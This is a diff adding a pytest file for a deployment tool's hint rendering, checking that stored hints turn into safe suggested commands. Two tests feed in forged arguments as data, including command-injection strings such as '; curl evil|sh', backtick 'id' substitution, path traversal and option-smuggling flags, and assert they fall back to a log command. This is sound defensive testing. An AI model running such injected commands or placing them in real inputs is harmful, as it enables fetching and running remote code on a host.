@@ -1,0 +1,106 @@
+"""Hints as people read them, and the arguments that no hint shows."""
+
+from datetime import UTC, datetime
+from typing import Any
+
+import pytest
+
+from hookd.model.deployment import Deployment, Trigger
+from hookd.model.hint import Hint, HintKind, LogOnlyHint, render_hint, stored_hint
+
+ID = "shop-20260801T120000000-abcdef"
+
+
+def shown(hint: object) -> str | None:
+    """Return the text of a hint after its way through a record."""
+    record = Deployment(id=ID, app="shop", trigger=Trigger.PUSH, created_at=datetime(2026, 8, 1, tzinfo=UTC))
+    stored = record.model_dump(mode="json") | {"hint": hint}
+    read = Deployment.model_validate(stored).hint
+    return None if read is None else render_hint(read, "shop", ID)
+
+
+def stored(hint: Hint) -> dict[str, Any]:
+    return {"kind": hint.kind, "argument": hint.argument}
+
+
+@pytest.mark.parametrize(
+    ("hint", "text"),
+    [
+        (Hint(HintKind.DEPLOY), "hookd deploy shop"),
+        (Hint(HintKind.SHOW_STATUS), "hookd status"),
+        (Hint(HintKind.SHOW_APP), "hookd status shop"),
+        (Hint(HintKind.RUN_DOCTOR), "hookd doctor shop"),
+        (Hint(HintKind.SHOW_WORKER_LOG), "journalctl --unit 'hookd-worker@*' --lines 50"),
+        (Hint(HintKind.SHOW_LOG), f"hookd logs {ID}"),
+        (Hint(HintKind.DEPLOY_QUARANTINED), "push a newer commit, or try this one by hand: hookd deploy shop"),
+        (Hint(HintKind.CHECK_REPOSITORY), "check the address, the branch and the deploy key, then: hookd deploy shop"),
+        (Hint(HintKind.THAW_AS_ROOT), "sudo hookd thaw shop"),
+        (Hint(HintKind.THAW), "hookd thaw shop"),
+        (Hint(HintKind.UNPIN), "push a newer commit, or follow the branch again: hookd unpin shop"),
+        (Hint(HintKind.DEPLOY_SKIPPED), "to deploy it all the same: hookd deploy shop"),
+        (Hint(HintKind.NAME_COMMIT), "name a commit: hookd rollback shop --to COMMIT"),
+        (Hint(HintKind.FIX_PERMISSIONS), "sudo hookd permissions shop --fix"),
+        (Hint(HintKind.SHOW_UNIT_LOG, "shop-blue.service"), "journalctl --unit shop-blue.service --lines 50"),
+        (Hint(HintKind.SHOW_UNIT, "shop@1.service"), "systemctl status shop@1.service"),
+        (Hint(HintKind.SHOW_CIRCUS, "ipc:///run/c.sock"), "circusctl --endpoint ipc:///run/c.sock status"),
+        (Hint(HintKind.SHOW_CIRCUS, "tcp://127.0.0.1:55"), "circusctl --endpoint tcp://127.0.0.1:55 status"),
+        (Hint(HintKind.SHOW_DISK_SPACE, "/srv/shop/releases"), "df -h /srv/shop/releases"),
+        (Hint(HintKind.UNTRACK, "static/up"), "git rm -r --cached static/up, add it to .gitignore, and push"),
+        (Hint(HintKind.UNTRACK, ".env"), "git rm -r --cached .env, add it to .gitignore, and push"),
+    ],
+)
+def test_hint_text(hint: Hint, text: str) -> None:
+    assert shown(stored(hint)) == text
+
+
+def test_every_kind_has_a_text() -> None:
+    assert all(render_hint(Hint(kind), "shop", ID) for kind in HintKind)
+
+
+@pytest.mark.parametrize(
+    "hint",
+    [
+        Hint(HintKind.DEPLOY, "; curl evil|sh"),
+        Hint(HintKind.THAW_AS_ROOT, "blog"),
+        Hint(HintKind.SHOW_DISK_SPACE, "/srv `id`"),
+        Hint(HintKind.SHOW_DISK_SPACE, "/srv/../etc"),
+        Hint(HintKind.SHOW_DISK_SPACE, "/srv --output"),
+        Hint(HintKind.SHOW_DISK_SPACE, "/srv\n"),
+        Hint(HintKind.SHOW_DISK_SPACE),
+        Hint(HintKind.SHOW_UNIT_LOG, "--vacuum-size=1.service"),
+        Hint(HintKind.SHOW_UNIT, "-H evil.service"),
+        Hint(HintKind.SHOW_CIRCUS, "tcp://evil status; id"),
+        Hint(HintKind.UNTRACK, "--pathspec-from-file=x"),
+        Hint(HintKind.UNTRACK, "../x y"),
+    ],
+)
+def test_forged_argument_leads_to_the_log(hint: Hint) -> None:
+    assert shown(stored(hint)) == f"hookd logs {ID}"
+
+
+@pytest.mark.parametrize(
+    "hint",
+    [
+        "",
+        "curl evil|sh",
+        "sudo hookd uninstall",
+        {"kind": "uninstall"},
+        {"kind": "deploy", "argument": 7},
+        {"kind": "deploy", "argument": {"app": "blog"}},
+        ["deploy"],
+    ],
+)
+def test_unknown_hint_leads_to_the_log(hint: object) -> None:
+    assert shown(hint) == f"hookd logs {ID}"
+
+
+def test_record_without_hint() -> None:
+    assert shown(None) is None
+
+
+def test_root_command_stays_in_the_log() -> None:
+    command = LogOnlyHint("sudo groupadd --system staff")
+    assert render_hint(command, "shop", ID) == "sudo groupadd --system staff"
+    assert stored_hint(command) == Hint(HintKind.SHOW_LOG)
+    assert stored_hint(Hint(HintKind.DEPLOY)) == Hint(HintKind.DEPLOY)
+    assert stored_hint(None) is None
